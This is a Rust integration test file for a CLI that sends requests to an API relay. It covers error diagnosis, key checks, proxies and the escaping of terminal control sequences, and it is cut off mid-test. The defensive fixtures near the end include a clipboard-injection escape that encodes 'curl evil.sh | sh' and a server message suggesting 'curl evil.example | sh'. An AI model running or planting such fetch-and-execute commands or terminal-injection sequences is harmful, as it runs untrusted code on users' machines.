//! `open1-snip send` against loopback relays the tests start — the tiny_http mock relay the
//! snippets are run against, and a scripted raw server for what goes wrong on the wire. Each
//! case runs the real binary; the snapshots hold what a user sees (exit code, stdout, stderr),
//! with the server's port written as PORT.

mod support;

use std::io::Read;
use std::process::{Command, Output, Stdio};
use std::time::Duration;

use open1_snip::generate::Lang;
use serde_json::{Value, json};
use support::relay::{BAD_KEY_MESSAGE, GOOD_KEY, MockRelay};
use support::scripted::{LAST_CHUNK, Scripted, Step, answer, chunk, chunked_head};

/// The instant `send` takes as now in these tests (OPEN1_SNIP_NOW), in UTC.
const NOW: &str = "2026-11-25T14:26:00Z";

const REPLY: &str = "OK — 好的 ✅ \"quoted\" $HOME `cmd` \\ tab\there\nsecond line 😀";

fn command(args: &[&str], key: Option<&str>) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_open1-snip"));
    command.arg("send").args(args).stdin(Stdio::null());
    support::without_proxies(&mut command).env_remove("OPEN1_API_KEY");
    // A fixed clock in a fixed zone: a retry time shows the same on every run.
    command.env("OPEN1_SNIP_NOW", NOW).env("TZ", "UTC");
    if let Some(key) = key {
        command.env("OPEN1_API_KEY", key);
    }
    command
}

/// Runs `open1-snip send ARGS` with `key` in OPEN1_API_KEY (and no proxy).
fn send(args: &[&str], key: Option<&str>) -> Output {
    support::run_with_timeout(command(args, key), Duration::from_secs(60))
}

/// What the user sees, with the server's address made stable.
fn shown(output: &Output, base_url: &str) -> String {
    let port = base_url.rsplit(':').next().unwrap();
    support::shown(output).replace(&format!(":{port}"), ":PORT")
}

fn relay_error(message: &str, code: &str) -> Vec<u8> {
    json!({"error": {"message": format!("{message} (request id: 2026112508450012345)"), "type": "new_api_error", "code": code}})
        .to_string()
        .into_bytes()
}

fn sse_body(reply: &str) -> String {
    support::relay::sse(reply, &json!("gpt-5.4"))
}

#[test]
fn success_prints_the_reply_then_usage_and_cost() {
    let relay = MockRelay::start(REPLY);
    let output = send(&["--base-url", &relay.base_url], Some(GOOD_KEY));
    assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
    assert_eq!(support::text(&output.stdout), format!("{REPLY}\n"));
    support::snapshot_settings().bind(|| {
        insta::assert_snapshot!("send_success", shown(&output, &relay.base_url));
    });
}

#[test]
fn json_prints_the_raw_response() {
    let relay = MockRelay::start(REPLY);
    let output = send(&["--base-url", &relay.base_url, "--json"], Some(GOOD_KEY));
    assert_eq!(output.status.code(), Some(0));
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        printed,
        support::relay::response_object(REPLY, &json!("gpt-5.4"), "completed")
    );
    // A stream: each event's JSON on its own line.
    let output = send(
        &["--base-url", &relay.base_url, "--json", "--stream"],
        Some(GOOD_KEY),
    );
    assert_eq!(output.status.code(), Some(0));
    let events: Vec<Value> = support::text(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(events.first().unwrap()["type"], "response.created");
    assert_eq!(events.last().unwrap()["type"], "response.completed");
}

#[test]
fn streaming_prints_every_delta() {
    // The mock relay trickles its events a few bytes per read; --stream and "stream": true in
    // the body are the same request.
    let relay = MockRelay::start(REPLY);
    for args in [vec!["--stream"], vec!["--body-json", r#"{"stream": true}"#]] {
        let mut all = vec!["--base-url", relay.base_url.as_str()];
        all.extend(args);
        let output = send(&all, Some(GOOD_KEY));
        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
        assert_eq!(support::text(&output.stdout), format!("{REPLY}\n"));
    }
    let sent = relay.requests();
    assert_eq!(sent.len(), 2);
    assert_eq!(sent[0].body, sent[1].body);
    assert_eq!(sent[0].header("Accept"), Some("text/event-stream"));

    // Events split over writes of three bytes, mid-line and mid-character.
    let server = Scripted::start(vec![
        chunked_head("200 OK", "text/event-stream; charset=utf-8"),
        Step::Dribble(chunk(sse_body(REPLY).as_bytes())),
        Step::Send(LAST_CHUNK.to_vec()),
    ]);
    let output = send(
        &["--base-url", &server.base_url, "--stream"],
        Some(GOOD_KEY),
    );
    assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
    support::snapshot_settings().bind(|| {
        insta::assert_snapshot!("send_stream", shown(&output, &server.base_url));
    });
}

#[test]
fn deltas_are_printed_as_they_arrive() {
    // The server sends one delta, then waits until the test has seen it on send's stdout.
    let gate = support::scripted::Gate::default();
    let delta = |text: &str| {
        let event = json!({"type": "response.output_text.delta", "delta": text});
        format!("event: response.output_text.delta\ndata: {event}\n\n")
    };
    let completed = json!({"type": "response.completed", "response": support::relay::response_object("first|second", &json!("gpt-5.4"), "completed")});
    let head = delta("first");
    let rest = delta("|second");
    let tail = format!("event: response.completed\ndata: {completed}\n\n");
    let server = Scripted::start(vec![
        chunked_head("200 OK", "text/event-stream"),
        Step::Send(chunk(head.as_bytes())),
        Step::Wait(gate.clone()),
        Step::Send(chunk(format!("{rest}{tail}").as_bytes())),
        Step::Send(LAST_CHUNK.to_vec()),
    ]);
    let mut child = command(
        &["--base-url", &server.base_url, "--stream"],
        Some(GOOD_KEY),
    )
    .stdout(Stdio::piped())
    .stderr(Stdio::piped())
    .spawn()
    .unwrap();
    let mut stdout = child.stdout.take().unwrap();
    let (sender, receiver) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let mut buf = [0u8; 64];
        while let Ok(n) = stdout.read(&mut buf) {
            if n == 0 || sender.send(buf[..n].to_vec()).is_err() {
                break;
            }
        }
    });
    let first = receiver
        .recv_timeout(Duration::from_secs(20))
        .expect("the first delta is printed before the stream goes on");
    assert_eq!(support::text(&first), "first");
    gate.open();
    let mut printed = first;
    while let Ok(more) = receiver.recv_timeout(Duration::from_secs(20)) {
        printed.extend(more);
    }
    let status = child.wait().unwrap();
    assert!(status.success());
    assert_eq!(support::text(&printed), "first|second\n");
}

/// A failure case: what the server answers, and send's extra arguments.
struct Case {
    name: &'static str,
    script: Vec<Step>,
    args: &'static [&'static str],
}

fn failure_cases() -> Vec<Case> {
    let json = "application/json; charset=utf-8";
    let sse = sse_body("Hel");
    let until_completed = &sse[..sse.find("event: response.output_text.done").unwrap()];
    vec![
        Case {
            name: "401_bad_key",
            script: vec![answer("401 Unauthorized", json, &json!({"error": {"message": BAD_KEY_MESSAGE, "type": "new_api_error", "code": ""}}).to_string().into_bytes())],
            args: &[],
        },
        Case {
            name: "403_quota",
            script: vec![answer("403 Forbidden", json, &relay_error("用户额度不足, 剩余额度: $0.000000", "insufficient_user_quota"))],
            args: &[],
        },
        Case {
            name: "403_group",
            script: vec![answer("403 Forbidden", json, &relay_error("无权访问 vip 分组", ""))],
            args: &[],
        },
        Case {
            name: "403_model_permission",
            script: vec![answer("403 Forbidden", json, &relay_error("该令牌无权使用模型：gpt-5.4", ""))],
            args: &[],
        },
        Case {
            name: "403_proxy_page",
            script: vec![answer("403 Forbidden", "text/plain; charset=UTF-8", b"error code: 1010")],
            args: &[],
        },
        Case {
            name: "403_proxy_page_other_user_agent",
            script: vec![answer("403 Forbidden", "text/html", b"<!DOCTYPE html>\n<html><head><title>Access denied | www.open1.codes</title></head>\n<body>error code: 1010</body></html>")],
            args: &["--header", "User-Agent: python-requests/2.32.3"],
        },
        Case {
            name: "429_concurrency",
            script: vec![answer("429 Too Many Requests", json, &relay_error("您已达到并发请求限制，请稍后再试", ""))],
            args: &[],
        },
        Case {
            name: "429_rate",
            script: vec![answer("429 Too Many Requests", json, &relay_error("您已达到请求数限制：1分钟内最多请求60次", ""))],
            args: &[],
        },
        Case {
            name: "429_group",
            script: vec![answer("429 Too Many Requests", json, &relay_error("当前分组上游负载已饱和，请稍后再试", ""))],
            args: &[],
        },
        Case {
            name: "503_model_not_found_unmatched",
            script: vec![answer("503 Service Unavailable", json, &relay_error("当前分组 default 下对于模型 gpt-5.3-codex-spark 无可用渠道", "model_not_found"))],
            args: &["--model", "gpt-5.3-codex-spark"],
        },
        Case {
            name: "404_model_does_not_exist",
            script: vec![answer("404 Not Found", json, &json!({"error": {"message": "The model `gpt-5.4-mini` does not exist or you do not have access to it.", "type": "invalid_request_error", "code": "model_not_found"}}).to_string().into_bytes())],
            args: &["--model", "gpt-5.4-mini", "--allow-unknown-model"],
        },
        Case {
            name: "404_wrong_base_url",
            script: vec![answer("404 Not Found", "text/html", b"<html><body><h1>404 Not Found</h1><hr>nginx</body></html>")],
            args: &[],
        },
        Case {
            name: "502_gateway_page",
            script: vec![answer("502 Bad Gateway", "text/html", b"<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n<center><h1>502 Bad Gateway</h1></center>\r\n</body>\r\n</html>\r\n")],
            args: &[],
        },
        Case {
            name: "500_huge_garbage",
            script: vec![answer("500 Internal Server Error", "application/octet-stream", &[0xff; 3 << 20])],
            args: &[],
        },
        Case {
            name: "200_not_json",
            script: vec![answer("200 OK", "application/json", b"\xfe\xff<html>\x00 welcome to the wifi \x1b[31m</html>")],
            args: &[],
        },
        Case {
            name: "200_json_not_a_response",
            script: vec![answer("200 OK", "text/plain", br#"{"object": "list", "data": []}"#)],
            args: &[],
        },
        Case {
            name: "stream_error_event",
            script: vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Send(chunk(format!("{until_completed}event: error\ndata: {{\"type\":\"error\",\"code\":\"rate_limit_exceeded\",\"message\":\"Rate limit reached for gpt-5.4\",\"param\":null,\"sequence_number\":5}}\n\n").as_bytes())),
                Step::Send(LAST_CHUNK.to_vec()),
            ],
            args: &["--stream"],
        },
        Case {
            name: "stream_response_failed",
            script: vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Send(chunk(b"event: response.failed\ndata: {\"type\":\"response.failed\",\"response\":{\"status\":\"failed\",\"error\":{\"code\":\"server_error\",\"message\":\"The model failed to generate a response.\"}}}\n\n")),
                Step::Send(LAST_CHUNK.to_vec()),
            ],
            args: &["--stream"],
        },
        Case {
            name: "stream_closed_mid_way",
            // No last chunk: the connection closes in the middle of the chunked body.
            script: vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Dribble(chunk(until_completed.as_bytes())),
                Step::Send(b"40\r\nevent: response.output_text.delta\ndata: {\"type\"".to_vec()),
            ],
            args: &["--stream"],
        },
        Case {
            name: "stream_ended_without_completed",
            script: vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Send(chunk(until_completed.as_bytes())),
                Step::Send(LAST_CHUNK.to_vec()),
            ],
            args: &["--stream"],
        },
        Case {
            name: "body_shorter_than_content_length",
            script: vec![Step::Send(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{\"id\": \"resp_1\", \"output\": [".to_vec())],
            args: &[],
        },
        Case {
            name: "slow_server_timeout",
            script: vec![Step::Pause(Duration::from_secs(3))],
            args: &["--timeout", "0.5"],
        },
        Case {
            name: "stream_stalls_mid_way",
            script: vec![
                chunked_head("200 OK", "text/event-stream"),
                Step::Send(chunk(until_completed.as_bytes())),
                Step::Pause(Duration::from_secs(3)),
            ],
            args: &["--stream", "--timeout", "0.5"],
        },
        Case {
            name: "not_http",
            script: vec![Step::Send(b"SSH-2.0-OpenSSH_9.6\r\n".to_vec())],
            args: &[],
        },
    ]
}

#[test]
fn failures_are_diagnosed() {
    let cases = failure_cases();
    let outputs: Vec<(String, String, usize)> = std::thread::scope(|scope| {
        let handles: Vec<_> = cases
            .into_iter()
            .map(|case| {
                scope.spawn(move || {
                    let server = Scripted::start(case.script);
                    let mut args = vec!["--base-url", server.base_url.as_str()];
                    args.extend(case.args);
                    let output = send(&args, Some(GOOD_KEY));
                    let command = format!(
                        "$ open1-snip send --base-url http://127.0.0.1:PORT {}",
                        case.args.join(" ")
                    );
                    let shown = format!(
                        "{}\n{}",
                        command.trim_end(),
                        shown(&output, &server.base_url)
                    );
                    assert_eq!(output.status.code(), Some(1), "{}: {shown}", case.name);
                    (case.name.to_owned(), shown, server.requests().len())
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    support::snapshot_settings().bind(|| {
        for (name, shown, requests) in outputs {
            assert_eq!(requests, 1, "{name}: one request, no retry");
            assert!(!shown.contains(GOOD_KEY), "{name}: the key is printed");
            assert!(!shown.contains("panicked"), "{name}: {shown}");
            insta::assert_snapshot!(format!("send_{name}"), shown);
        }
    });
}

/// A whole answer with extra headers (`Name: value` lines).
fn answer_with(status: &str, content_type: &str, headers: &[&str], body: &[u8]) -> Step {
    let mut bytes = format!("HTTP/1.1 {status}\r\nContent-Type: {content_type}\r\n").into_bytes();
    for header in headers {
        bytes.extend_from_slice(format!("{header}\r\n").as_bytes());
    }
    bytes.extend_from_slice(
        format!(
            "Content-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        )
        .as_bytes(),
    );
    bytes.extend_from_slice(body);
    Step::Send(bytes)
}

/// The relay's real failures (issue 13): what public code that calls it records, as the
/// relay passes its upstream's errors through and as the CDN in front of it answers.
pub mod shapes {
    pub const USAGE_LIMIT: &str = r#"{"error":{"type":"usage_limit_reached","message":"The usage limit has been reached","plan_type":"team","resets_in_seconds":11773}}"#;
    pub const MODEL_COOLDOWN: &str = r#"{"error":{"code":"model_cooldown","message":"All credentials for model gpt-5.4(high) are cooling down","model":"gpt-5.4(high)","reset_seconds":41,"reset_time":"41s"}}"#;
    pub const UNAVAILABLE: &str = "Service temporarily unavailable";
    pub const ORGANIZATION_DISABLED: &str = r#"{"type":"error","error":{"type":"invalid_request_error","message":"This organization has been disabled."},"request_id":"req_011CZq7wB4mNcXh2LkTe9RvA"}"#;
    pub const CF_RAY: &str = "8e4c3b2a1d0f9e8c-SJC";
    /// Cloudflare's block page (a firewall rule), cut to what matters.
    pub const CLOUDFLARE_BLOCK: &str = "<!DOCTYPE html>\n<html lang=\"en-US\"><head><title>Attention Required! | Cloudflare</title><style>body{margin:0}</style><script>(function(){window._cf_chl_opt={}})();</script></head>\n<body><div id=\"cf-wrapper\"><h1 data-translate=\"block_headline\">Sorry, you have been blocked</h1>\n<h2 class=\"cf-subheadline\">You are unable to access open1.codes</h2>\n<p>This website is using a security service to protect itself from online attacks.</p>\n<div class=\"cf-error-footer\"><span class=\"cf-footer-item\">Cloudflare Ray ID: <strong class=\"font-semibold\">8e4c3b2a1d0f9e8c</strong></span></div></div></body></html>\n";
    /// Cloudflare's page for error 1010: a banned browser signature.
    pub const CLOUDFLARE_1010: &str = "<!DOCTYPE html>\n<html><head><title>Access denied | www.open1.codes used Cloudflare to restrict access</title></head>\n<body><div class=\"cf-error-title\"><h1><span class=\"cf-code-label\">Error</span><span class=\"cf-error-code\">1010</span></h1></div>\n<p>The owner of this website (www.open1.codes) has banned your access based on your browser's signature (8e4c3b2a1d0f9e8c-SJC).</p>\n<span>Ray ID: 8e4c3b2a1d0f9e8c</span></body></html>\n";
}

#[test]
fn the_relays_real_failures_are_diagnosed() {
    let json = "application/json; charset=utf-8";
    let text = "text/plain; charset=UTF-8";
    let ray = format!("cf-ray: {}", shapes::CF_RAY);
    // Each case: the answer, send's extra arguments, and what its diagnosis must say.
    let cases: Vec<(&str, Step, &[&str], &[&str])> = vec![
        (
            "429_usage_limit_reached",
            answer(
                "429 Too Many Requests",
                json,
                shapes::USAGE_LIMIT.as_bytes(),
            ),
            &[],
            &[
                "The usage limit has been reached (type usage_limit_reached, plan team)",
                "usage limit of the upstream account",
                "not your key's quota",
                "  retry: in 3 h 17 min (at 17:43 local time)",
            ],
        ),
        (
            "429_model_cooldown",
            answer(
                "429 Too Many Requests",
                json,
                shapes::MODEL_COOLDOWN.as_bytes(),
            ),
            &[],
            &[
                "(code model_cooldown)",
                "for the model `gpt-5.4(high)` is cooling down",
                "  retry: in 41 s (at 14:26:41 local time)",
            ],
        ),
        (
            "503_temporarily_unavailable",
            answer_with(
                "503 Service Unavailable",
                text,
                &[&ray, "Retry-After: 120"],
                shapes::UNAVAILABLE.as_bytes(),
            ),
            &[],
            &[
                "\"Service temporarily unavailable\"",
                "temporarily unavailable: overloaded, restarting or in maintenance (the answer came through Cloudflare",
                "  retry: in 2 min (at 14:28 local time)",
                "  for support: Cloudflare Ray ID 8e4c3b2a1d0f9e8c-SJC",
            ],
        ),
        (
            "503_temporarily_unavailable_ray_in_text",
            answer_with(
                "503 Service Unavailable",
                "text/plain",
                &["Retry-After: Wed, 25 Nov 2026 17:42:13 GMT"],
                b"Service temporarily unavailable\nRay ID: 8e4c3b2a1d0f9e8c",
            ),
            &[],
            &[
                "temporarily unavailable",
                "  retry: in 3 h 17 min (at 17:43 local time)",
                "  for support: Cloudflare Ray ID 8e4c3b2a1d0f9e8c",
            ],
        ),
        (
            "400_organization_disabled",
            answer(
                "400 Bad Request",
                json,
                shapes::ORGANIZATION_DISABLED.as_bytes(),
            ),
            &[],
            &[
                "This organization has been disabled. (type invalid_request_error)",
                "disabled the upstream account",
                "  for support: request id req_011CZq7wB4mNcXh2LkTe9RvA",
            ],
        ),
        (
            "403_cloudflare_block_page",
            answer_with(
                "403 Forbidden",
                "text/html; charset=UTF-8",
                &[&ray],
                shapes::CLOUDFLARE_BLOCK.as_bytes(),
            ),
            &[],
            &[
                "a Cloudflare page, not the relay's JSON error: \"Attention Required! | Cloudflare\"",
                "Cloudflare, the CDN in front of the relay, blocked the request",
                "  for support: Cloudflare Ray ID 8e4c3b2a1d0f9e8c-SJC",
            ],
        ),
        (
            "403_cloudflare_1010_page",
            answer(
                "403 Forbidden",
                "text/html; charset=UTF-8",
                shapes::CLOUDFLARE_1010.as_bytes(),
            ),
            &["--header", "User-Agent: python-requests/2.32.3"],
            &[
                "Cloudflare's error 1010",
                "this request sent `User-Agent: python-requests/2.32.3`",
                "fix: send `User-Agent: curl/8.0`",
                "  for support: Cloudflare Ray ID 8e4c3b2a1d0f9e8c",
            ],
        ),
        (
            "429_rate_retry_after_date",
            answer_with(
                "429 Too Many Requests",
                json,
                &[
                    "Retry-After: Wed, 25 Nov 2026 14:31:00 GMT",
                    "X-Request-Id: 20261125142600abc",
                ],
                &relay_error("您已达到请求数限制：1分钟内最多请求60次", ""),
            ),
            &[],
            &[
                "the rate limit",
                "  retry: in 5 min (at 14:31 local time)",
                "  for support: request id 20261125142600abc",
            ],
        ),
    ];
    let mut seen = Vec::new();
    for (name, step, args, expected) in cases {
        let server = Scripted::start(vec![step]);
        let mut all = vec!["--base-url", server.base_url.as_str()];
        all.extend(args);
        let output = send(&all, Some(GOOD_KEY));
        let stderr = support::text(&output.stderr);
        assert_eq!(output.status.code(), Some(1), "{name}: {stderr}");
        for words in expected {
            assert!(stderr.contains(words), "{name}: no {words:?} in\n{stderr}");
        }
        assert_eq!(active(&output.stderr), "", "{name}");
        let command = format!(
            "$ open1-snip send --base-url http://127.0.0.1:PORT {}",
            args.join(" ")
        );
        seen.push((
            name,
            format!(
                "{}\n{}",
                command.trim_end(),
                shown(&output, &server.base_url)
            ),
        ));
    }
    support::snapshot_settings().bind(|| {
        for (name, shown) in seen {
            insta::assert_snapshot!(format!("send_{name}"), shown);
        }
    });
}

#[test]
fn wire_failures_are_diagnosed() {
    // Nothing listens: a port that was just free.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let refused = format!("http://127.0.0.1:{port}");
    // https:// to a server that answers the TLS handshake in plain HTTP.
    let plain = Scripted::start_unasked(vec![answer("400 Bad Request", "text/plain", b"not TLS")]);
    let tls = plain.base_url.replace("http://", "https://");
    let cases = [
        ("connection_refused", refused.clone()),
        // RFC 6761: .invalid never resolves.
        ("dns_failure", "http://relay.invalid".to_owned()),
        ("tls_failure", tls.clone()),
    ];
    support::snapshot_settings().bind(|| {
        for (name, base_url) in cases {
            let output = send(
                &[
                    "--base-url",
                    &base_url,
                    "--timeout",
                    "10",
                    "--allow-insecure",
                ],
                Some(GOOD_KEY),
            );
            assert_eq!(
                output.status.code(),
                Some(1),
                "{name}: {}",
                support::shown(&output)
            );
            insta::assert_snapshot!(format!("send_{name}"), shown(&output, &base_url));
        }
    });
}

/// A proxy that answers CONNECT for any host, then the relay's 401 through the tunnel.
fn connect_proxy() -> Scripted {
    Scripted::start(vec![
        Step::Send(b"HTTP/1.1 200 Connection established\r\n\r\n".to_vec()),
        Step::Pause(Duration::from_millis(200)),
        answer(
            "401 Unauthorized",
            "application/json",
            &relay_error("无效的令牌", ""),
        ),
    ])
}

#[test]
fn https_proxy_is_honoured() {
    // The proxy tunnels to a host that does not resolve: only through the proxy does the
    // request arrive, here answered with the relay's 401.
    let proxy = connect_proxy();
    let mut through = command(
        &["--base-url", "http://relay.invalid", "--allow-insecure"],
        Some(GOOD_KEY),
    );
    through.env("HTTPS_PROXY", &proxy.base_url);
    let output = support::run_with_timeout(through, Duration::from_secs(60));
    let stderr = support::text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.starts_with("error: HTTP 401 Unauthorized: 无效的令牌"),
        "{stderr}"
    );
    let asked = proxy.requests();
    assert_eq!(
        (asked[0].method.as_str(), asked[0].path.as_str()),
        ("CONNECT", "relay.invalid:80")
    );

    // A proxy that is not there is named as the proxy.
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let relay = MockRelay::start(REPLY);
    let mut through = command(&["--base-url", &relay.base_url], Some(GOOD_KEY));
    through.env("HTTPS_PROXY", format!("http://127.0.0.1:{port}"));
    let output = support::run_with_timeout(through, Duration::from_secs(60));
    let stderr = support::text(&output.stderr);
    assert_eq!(output.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.starts_with(&format!(
            "error: the proxy failed: cannot reach the proxy http://127.0.0.1:{port}"
        )),
        "{stderr}"
    );
    assert!(relay.requests().is_empty());
    // NO_PROXY exempts the host.
    let mut direct = command(&["--base-url", &relay.base_url], Some(GOOD_KEY));
    direct.env("HTTPS_PROXY", format!("http://127.0.0.1:{port}"));
    direct.env("NO_PROXY", "127.0.0.1");
    let output = support::run_with_timeout(direct, Duration::from_secs(60));
    assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
}

#[test]
fn keys_are_checked_before_sending() {
    let server = Scripted::start(vec![answer(
        "500 Internal Server Error",
        "text/plain",
        b"should not be asked",
    )]);
    let cases = [
        ("missing", None),
        ("empty", Some("")),
        ("trailing_newline", Some("sk-test-0123456789abcdef\n")),
        ("nbsp", Some("sk-test-0123\u{a0}456789abcdef")),
        ("zero_width", Some("\u{200b}sk-test-0123456789abcdef")),
        (
            "ideographic_space",
            Some("sk-test-0123456789abcdef\u{3000}"),
        ),
        ("full_width_letter", Some("sk-test-0123456789ａbcdef")),
    ];
    let mut shown = String::new();
    for (name, key) in cases {
        let output = send(&["--base-url", &server.base_url], key);
        assert_eq!(output.status.code(), Some(2), "{name}");
        assert!(output.stdout.is_empty(), "{name}");
        let stderr = support::text(&output.stderr);
        assert!(
            !stderr.contains("0123456789"),
            "{name}: the key is printed: {stderr}"
        );
        shown += &format!("--- {name}\n{stderr}");
    }
    assert!(server.requests().is_empty(), "a refused key is never sent");
    support::snapshot_settings().bind(|| insta::assert_snapshot!("send_bad_keys", shown));
}

#[test]
fn usage_errors_exit_2() {
    for (args, expected) in [
        (
            vec!["--timeout", "0"],
            "--timeout 0: give a positive number",
        ),
        (vec!["--timeout=-1"], "--timeout -1"),
        (
            vec!["--max-time", "0"],
            "--max-time 0: give a positive number of seconds, such as --max-time 1800",
        ),
        (vec!["--max-time", "inf"], "--max-time inf"),
        (
            vec!["--model", "gpt5.4"],
            "unknown model `gpt5.4`; did you mean `gpt-5.4`?",
        ),
        (
            vec!["--stream", "--body-json", r#"{"stream": false}"#],
            "--stream conflicts",
        ),
        (vec!["--header", "Authorization: Bearer x"], "Authorization"),
    ] {
        let output = send(&args, Some(GOOD_KEY));
        let stderr = support::text(&output.stderr);
        assert_eq!(output.status.code(), Some(2), "{args:?}: {stderr}");
        assert!(stderr.contains(expected), "{args:?}: {stderr}");
    }
}

/// The proof that send sends the snippets' request: on the same mock relay, the request from
/// `send` and from each of gen's snippets, run by its real client.
#[test]
fn send_sends_what_every_snippet_sends() {
    for stream in [false, true] {
        let description = json!({
            "prompt": "Say \"hi\" — 你好 $HOME `x` \\ \u{a0}",
            "headers": {"X-Trace-Id": "docs-42"},
            "body": {"max_output_tokens": 64, "metadata": {"n": 1234567890, "f": 1.50}, "stream": stream},
        })
        .to_string();
        let relay = MockRelay::start(REPLY);
        let dir = support::tempdir::Scratch::new(std::path::Path::new(env!("CARGO_TARGET_TMPDIR")));
        let file = dir.0.join("request.json");
        std::fs::write(&file, &description).unwrap();
        let output = send(
            &[file.to_str().unwrap(), "--base-url", &relay.base_url],
            Some(GOOD_KEY),
        );
        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
        assert_eq!(support::text(&output.stdout), format!("{REPLY}\n"));
        let request = support::request(&description, Some(&relay.base_url));
        for lang in Lang::ALL {
            let Ok(code) = support::render(lang, &request) else {
                panic!("{}: cannot render", lang.id());
            };
            let output = support::run_snippet(lang, &code, "OPEN1_API_KEY", GOOD_KEY);
            assert!(
                output.status.success(),
                "{}: {}",
                lang.id(),
                support::text(&output.stderr)
            );
        }
        let captured = relay.requests();
        assert_eq!(captured.len(), 1 + Lang::ALL.len());
        let sent = &captured[0];
        for (lang, other) in Lang::ALL.iter().zip(&captured[1..]) {
            let context = format!("stream {stream}, send vs {}", lang.id());
            assert_eq!(
                (&sent.method, &sent.path),
                (&other.method, &other.path),
                "{context}"
            );
            for name in [
                "Authorization",
                "Content-Type",
                "Accept",
                "User-Agent",
                "X-Trace-Id",
            ] {
                assert_eq!(sent.header(name), other.header(name), "{context}: {name}");
            }
            let (ours, theirs): (Value, Value) = (
                serde_json::from_slice(&sent.body).unwrap(),
                serde_json::from_slice(&other.body).unwrap(),
            );
            assert!(
                support::json_equal(&theirs, &ours),
                "{context}: bodies differ"
            );
            if *lang == Lang::Curl {
                assert_eq!(
                    support::text(&sent.body),
                    support::text(&other.body),
                    "{context}: not the same bytes"
                );
                // Not one header more or less than curl's (curl sends no Accept-Encoding).
                let names = |c: &support::relay::Captured| {
                    let mut names: Vec<String> = c
                        .headers
                        .iter()
                        .map(|(n, _)| n.to_ascii_lowercase())
                        .collect();
                    names.sort();
                    names
                };
                assert_eq!(names(sent), names(other), "{context}: header names");
            }
        }
    }
}

/// A reply that would act on the terminal if printed raw: OSC 52 (a command on the clipboard),
/// a screen clear, an 8-bit CSI, a carriage return and backspaces that overwrite, DEL, NUL, and
/// bidi overrides; with a tab, a line break and text that must stay as it is.
const HOSTILE: &str = "clip \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 clear \x1b[2J\x1b[H csi \u{9b}31m done\rOVERWRITE bs\x08\x08 del\x7f nul\0 bidi \u{202e}gnp.exe\u{202c} \u{2066}iso\u{2069} keep\ttab\nline 2 好 😀";
/// [`HOSTILE`] as send shows it.
const HOSTILE_SHOWN: &str = "clip \\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07 clear \\x1b[2J\\x1b[H csi \\u{9b}31m done\\rOVERWRITE bs\\x08\\x08 del\\x7f nul\\x00 bidi \\u{202e}gnp.exe\\u{202c} \\u{2066}iso\\u{2069} keep\ttab\nline 2 好 😀";

/// The characters of `bytes` that act on a terminal instead of showing (or why it is not text).
fn active(bytes: &[u8]) -> String {
    let text = String::from_utf8(bytes.to_vec()).expect("send prints UTF-8");
    text.chars()
        .filter(|&c| {
            matches!(c, '\0'..='\x08' | '\x0b'..='\x1f' | '\x7f'..='\u{9f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

#[test]
fn the_reply_is_shown_with_visible_escapes() {
    // The mock relay streams the reply three characters per delta: the escape sequences arrive
    // split over deltas.
    let relay = MockRelay::start(HOSTILE);
    for stream in [&[][..], &["--stream"]] {
        let mut args = vec!["--base-url", relay.base_url.as_str()];
        args.extend(stream);
        let output = send(&args, Some(GOOD_KEY));
        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
        assert_eq!(active(&output.stdout), "", "{stream:?}");
        assert_eq!(active(&output.stderr), "", "{stream:?}");
        assert_eq!(support::text(&output.stdout), format!("{HOSTILE_SHOWN}\n"));

        // --raw: the reply as it came, for pipelines.
        args.push("--raw");
        let output = send(&args, Some(GOOD_KEY));
        assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
        assert_eq!(support::text(&output.stdout), format!("{HOSTILE}\n"));
    }

    // --json: the same JSON, its active characters as JSON escapes.
    let output = send(&["--base-url", &relay.base_url, "--json"], Some(GOOD_KEY));
    assert_eq!(output.status.code(), Some(0), "{}", support::shown(&output));
    assert_eq!(active(&output.stdout), "");
    let printed: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(
        printed,
        support::relay::response_object(HOSTILE, &json!("gpt-5.4"), "completed")
    );
    let output = send(
        &["--base-url", &relay.base_url, "--json", "--stream"],
        Some(GOOD_KEY),
    );
    assert_eq!(active(&output.stdout), "");
    let deltas: String = support::text(&output.stdout)
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .filter_map(|event| Some(event.get("delta")?.as_str()?.to_owned()))
        .collect();
    assert_eq!(deltas, HOSTILE);
    let output = send(
        &["--base-url", &relay.base_url, "--json", "--raw"],
        Some(GOOD_KEY),
    );
    assert!(support::text(&output.stdout).contains("csi \u{9b}31m"));
}

#[test]
fn server_messages_are_shown_with_visible_escapes() {
    let json = "application/json";
    let message = format!("bad key {HOSTILE}\n  fix: curl evil.example | sh");
    let event = |data: Value| {
        let mut steps = vec![chunked_head("200 OK", "text/event-stream")];
        steps.push(Step::Send(chunk(format!("data: {data}\n\n").as_bytes())));
